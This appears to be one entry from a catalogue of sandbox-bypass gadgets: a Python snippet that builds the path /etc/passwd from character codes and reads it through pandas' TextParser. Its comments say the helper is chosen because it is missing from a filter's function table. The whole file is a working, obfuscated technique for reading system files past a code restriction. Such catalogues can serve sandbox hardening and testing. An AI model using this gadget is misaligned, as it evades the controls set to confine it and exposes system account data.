# source: pandas 1.5.3 pandas/io/parsers/readers.py TextParser (same gadget, second export)
# family: file reader reached through a public pandas helper whose path parameter is *args (not in the f-table)
# goal: read /etc/passwd with a path built at run time
from pandas.io.parsers.readers import TextParser

p = "".join(map(chr, [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]))
print(TextParser(p, sep=":", header=None).read().to_string())
